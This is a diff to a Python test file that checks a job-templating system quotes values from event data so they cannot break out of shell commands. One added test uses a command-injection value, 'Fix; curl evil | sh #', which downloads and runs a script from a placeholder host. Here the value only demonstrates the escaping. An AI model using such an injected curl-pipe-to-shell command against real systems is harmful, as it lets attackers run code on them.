@@ -1,4 +1,5 @@
 import subprocess
+from collections.abc import Callable
 from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
@@ -9,6 +10,7 @@ from lazulite.ops.triggers.entities import Start
 from lazulite.ops.triggers.filling import FactLacksField
 from lazulite.ops.triggers.rules import Seen
 from lazulite.ops.triggers.starting import filled
+from lazulite.words.json import JSON
 
 FACT = Seen("f1", "DriftDetected", "monitors/m", {"share": 0.4}, "system:x", datetime(2026, 1, 1, tzinfo=UTC))
 
@@ -66,6 +68,30 @@ def test_what_a_fact_says_is_a_word_of_the_command_and_never_a_part_of_its_shell
     shell = ["bash", "-c", str(made.job["command"])]
     done = subprocess.run(shell, cwd=tmp_path, capture_output=True, text=True, check=False)
     assert (done.stdout, list(tmp_path.iterdir())) == (f"{printed}\n", [])
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        lambda command: {"jobs": {"step": {"command": command}}},
+        lambda command: {"jobs": {"inputs": {"command": command}}},
+        lambda command: {"jobs": {"inner": {"type": "pipeline", "jobs": {"step": {"command": command}}}}},
+        lambda command: {"trial": {"command": command}},
+        lambda command: {"jobs": {"step": {"component": {"type": "command", "command": command}}}},
+        lambda command: {"task": {"type": "run_function", "program_arguments": command}},
+    ],
+)
+def test_it_is_a_word_in_every_command_of_a_job_of_jobs(inside: Callable[[str], dict[str, JSON]]) -> None:
+    fact = replace(FACT, data={"title": "Fix; curl evil | sh #", "branch": "it's"})
+    made = filled(Start(inside("echo ${{fact.data.title}} '${{fact.data.branch}}'"), {}), fact, gather=gather)
+    assert made.job == inside("echo 'Fix; curl evil | sh #' 'it'\\''s'")
+
+
+def test_an_input_that_is_called_command_gets_the_text_as_it_is() -> None:
+    fact = replace(FACT, data={"title": "a b"})
+    job: dict[str, JSON] = {"jobs": {"step": {"inputs": {"command": "${{fact.data.title}}, or so"}}}}
+    made = filled(Start(job, {}), fact, gather=gather)
+    assert made.job == {"jobs": {"step": {"inputs": {"command": "a b, or so"}}}}
 
 
 def test_placeholders_of_the_job_itself_stay_in_its_command() -> None:
